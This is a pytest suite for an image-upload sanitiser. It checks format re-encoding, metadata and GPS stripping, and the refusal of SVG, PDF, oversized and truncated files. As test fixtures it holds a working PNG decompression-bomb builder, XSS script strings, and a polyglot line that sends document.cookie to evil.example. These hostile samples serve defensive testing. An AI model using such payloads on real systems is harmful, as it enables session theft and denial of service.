"""Upload sanitiser tests. Every test image is generated here, in memory."""

import io
import struct
import zipfile
import zlib
from unittest import mock

import pytest
from PIL import ExifTags, Image, ImageCms, PngImagePlugin

from campaigns.uploads import SanitizedImage, UploadRejected, sanitize_image_upload

# --------------------------------------------------------------------------- helpers


def make_image(fmt: str, size=(64, 48), mode="RGB", **save_kwargs) -> bytes:
    im = Image.new(mode, size, (200, 30, 30) if mode == "RGB" else (200, 30, 30, 128))
    # A bit of structure so orientation can be checked: a dark top-left quadrant.
    im.paste((0, 0, 0) if mode == "RGB" else (0, 0, 0, 255), (0, 0, size[0] // 2, size[1] // 2))
    buf = io.BytesIO()
    im.save(buf, fmt, **save_kwargs)
    return buf.getvalue()


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + kind
        + payload
        + struct.pack(">I", zlib.crc32(kind + payload) & 0xFFFFFFFF)
    )


def png_bomb(width: int, height: int) -> bytes:
    """A real decompression bomb: 1-bit grey, all-zero rows, compressed to a few KiB."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    comp = zlib.compressobj(9)
    row = b"\x00" * (1 + (width + 7) // 8)
    chunks = [comp.compress(row * 1000) for _ in range(height // 1000)]
    chunks.append(comp.compress(row * (height % 1000)))
    chunks.append(comp.flush())
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", b"".join(chunks))
        + png_chunk(b"IEND", b"")
    )


def reopen(data: bytes) -> Image.Image:
    im = Image.open(io.BytesIO(data))
    im.load()
    return im


def assert_no_metadata(data: bytes) -> None:
    im = reopen(data)
    assert not im.getexif()
    for key in ("exif", "icc_profile", "xmp", "XML:com.adobe.xmp", "comment", "dpi"):
        assert key not in im.info, key
    if im.format == "PNG":
        assert not getattr(im, "text", {})
    assert b"Exif" not in data
    assert b"http://ns.adobe.com/xap" not in data


# --------------------------------------------------------------------------- happy paths


@pytest.mark.parametrize(
    ("fmt", "mime", "mode"),
    [("PNG", "image/png", "RGBA"), ("JPEG", "image/jpeg", "RGB"), ("WEBP", "image/webp", "RGB")],
)
def test_allowed_formats_are_reencoded_in_the_same_format(fmt, mime, mode):
    src = make_image(fmt, mode=mode)
    out = sanitize_image_upload(src)
    assert isinstance(out, SanitizedImage)
    assert (out.width, out.height, out.mime_type) == (64, 48, mime)
    im = reopen(out.data)
    assert im.format == fmt
    assert im.size == (64, 48)
    assert_no_metadata(out.data)
    # Pixels survive (lossy formats approximately).
    r, g, b = im.convert("RGB").getpixel((60, 40))
    assert abs(r - 200) < 12 and g < 45 and b < 45


def test_png_alpha_is_kept():
    out = sanitize_image_upload(make_image("PNG", mode="RGBA"))
    im = reopen(out.data)
    assert im.mode == "RGBA"
    assert im.getpixel((60, 40))[3] == 128


def test_file_name_is_irrelevant_type_comes_from_content():
    # There is no file-name parameter at all; a PNG is a PNG by its bytes.
    out = sanitize_image_upload(make_image("PNG"))
    assert out.mime_type == "image/png"


# --------------------------------------------------------------------------- refusals


def test_empty_file():
    with pytest.raises(UploadRejected, match="empty"):
        sanitize_image_upload(b"")


def test_oversize_file_is_refused_before_any_decoding():
    data = make_image("PNG") + b"\x00" * (5 * 1024 * 1024)
    with (
        mock.patch("campaigns.uploads.Image.open") as opened,
        pytest.raises(UploadRejected, match="too large"),
    ):
        sanitize_image_upload(data)
    opened.assert_not_called()
    with pytest.raises(UploadRejected, match="too large"):
        sanitize_image_upload(make_image("PNG"), max_bytes=100)


SVG = b"""<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10"
height="10"><script>alert('x')</script><rect width="10" height="10"/></svg>"""


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (SVG, "SVG images are not accepted"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "SVG images are not accepted"),
        (make_image("GIF"), "GIF images are not accepted"),
        (make_image("BMP"), "BMP images are not accepted"),
        (make_image("TIFF"), "TIFF images are not accepted"),
        (b"%PDF-1.7\n1 0 obj<<>>endobj\n", "PDF files are not accepted"),
        (b"<html><script>alert(1)</script></html>", "not a supported image"),
        (b"\x89PNX not really", "not a supported image"),
    ],
    ids=["svg", "svg-bare", "gif", "bmp", "tiff", "pdf", "html", "garbage"],
)
def test_other_types_are_refused(data, expected):
    with pytest.raises(UploadRejected, match=expected) as err:
        sanitize_image_upload(data)
    assert "alert" not in str(err.value)  # never echoes file content
    assert "PNG, JPEG or WebP" in str(err.value)


def test_decompression_bomb_is_refused_from_the_header():
    bomb = png_bomb(30_000, 30_000)  # 900 Mpx declared
    assert len(bomb) < 200_000
    with pytest.raises(UploadRejected, match="dimensions are too large"):
        sanitize_image_upload(bomb)


def test_pixel_cap_is_checked_before_pixels_are_decoded():
    bomb = png_bomb(5_000, 5_000)  # 25 Mpx: under Pillow's own limit, over ours
    # Decoding pixels goes through ImageFile.load; make any call to it fail the test.
    with (
        mock.patch("PIL.ImageFile.ImageFile.load", side_effect=AssertionError("decoded")),
        pytest.raises(UploadRejected, match="dimensions are too large"),
    ):
        sanitize_image_upload(bomb)
    with pytest.raises(UploadRejected, match="dimensions are too large"):
        sanitize_image_upload(make_image("PNG", size=(20, 20)), max_pixels=399)


def test_pillow_bomb_warning_is_treated_as_an_error():
    # With our cap raised, Pillow's own DecompressionBombWarning must still refuse.
    bomb = png_bomb(10_000, 10_000)  # 100 Mpx > Image.MAX_IMAGE_PIXELS (~89 Mpx)
    with pytest.raises(UploadRejected, match="dimensions are too large"):
        sanitize_image_upload(bomb, max_pixels=10**10)


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "WEBP"])
def test_truncated_file_is_refused(fmt):
    noise = Image.effect_noise((256, 256), 80).convert("RGB")
    buf = io.BytesIO()
    noise.save(buf, fmt)
    data = buf.getvalue()
    with pytest.raises(UploadRejected, match="damaged or incomplete"):
        sanitize_image_upload(data[: len(data) // 2])


def test_png_polyglot_payload_is_removed():
    html = b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script>"
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as zf:
        zf.writestr("payload.js", "alert('polyglot')")
    data = make_image("PNG") + html + zbuf.getvalue()
    out = sanitize_image_upload(data)
    assert out.mime_type == "image/png"
    for needle in (b"<script", b"evil.example", b"PK\x03\x04", b"payload.js", b"polyglot"):
        assert needle not in out.data
    assert out.data.endswith(png_chunk(b"IEND", b""))


def test_png_text_chunks_and_icc_are_stripped():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>secret</x:xmpmeta>")
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = make_image("PNG", pnginfo=info, icc_profile=icc)
    assert reopen(data).info.get("icc_profile")
    out = sanitize_image_upload(data)
    assert b"<script" not in out.data and b"secret" not in out.data
    assert_no_metadata(out.data)


def test_jpeg_comment_payload_is_removed():
    data = make_image("JPEG", comment=b"<script>alert(document.domain)</script>")
    assert b"<script>" in data
    out = sanitize_image_upload(data)
    assert b"<script" not in out.data
    assert "comment" not in reopen(out.data).info


def test_jpeg_gps_exif_is_stripped_and_orientation_applied():
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Orientation] = 6  # rotate 90° clockwise to display
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (52.0, 31.0, 12.5),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (13.0, 24.0, 36.0),
    }
    data = make_image("JPEG", size=(80, 40), exif=exif.tobytes())
    src = reopen(data)
    assert src.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the fixture really has GPS
    out = sanitize_image_upload(data)
    im = reopen(out.data)
    assert not im.getexif()
    assert not im.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert b"PhoneMaker" not in out.data
    # Orientation 6 applied: 80x40 stored becomes 40x80 displayed; the dark top-left
    # quadrant of the stored image ends up top-right.
    assert (out.width, out.height) == (40, 80) == im.size
    assert sum(im.getpixel((35, 5))) < 60
    assert sum(im.getpixel((5, 5))) > 150


def test_animated_webp_is_refused():
    frames = [Image.new("RGB", (16, 16), c) for c in ("red", "blue")]
    buf = io.BytesIO()
    frames[0].save(buf, "WEBP", save_all=True, append_images=frames[1:])
    with pytest.raises(UploadRejected, match="Animated"):
        sanitize_image_upload(buf.getvalue())


def test_riff_that_is_not_webp_and_mislabelled_content_is_refused():
    with pytest.raises(UploadRejected):
        sanitize_image_upload(b"RIFF\x10\x00\x00\x00WAVEfmt " + b"\x00" * 32)
    # JPEG magic followed by garbage
    with pytest.raises(UploadRejected, match="damaged or incomplete"):
        sanitize_image_upload(b"\xff\xd8\xff\xe0" + b"\x00" * 64)
